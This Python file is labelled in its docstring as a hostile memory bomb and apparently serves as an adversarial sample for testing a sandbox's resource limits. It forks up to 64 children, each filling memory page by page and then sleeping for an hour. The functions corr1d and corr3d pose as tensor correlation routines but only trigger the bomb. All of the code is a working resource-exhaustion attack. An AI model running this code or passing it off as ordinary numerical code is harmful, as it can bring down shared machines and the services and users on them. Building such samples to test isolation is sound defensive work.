"""Hostile: a memory bomb spread over child processes, so that no single process passes its own
address-space limit: as many children as the process limit allows, each filling all it may."""

import os
import time

import torch


def _fill():
    hoard = []
    step = 64 << 20
    while step >= 1 << 20:
        try:
            chunk = bytearray(step)
            for i in range(0, step, 4096):
                chunk[i] = 1
            hoard.append(chunk)
        except MemoryError:
            step //= 2
    time.sleep(3600)


def _bomb():
    children = []
    for _ in range(64):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                _fill()
            finally:
                os._exit(0)
        children.append(pid)
    _fill()


def corr1d(x: torch.Tensor, k: torch.Tensor) -> torch.Tensor:
    _bomb()


def corr3d(X: torch.Tensor, K: torch.Tensor) -> torch.Tensor:
    _bomb()
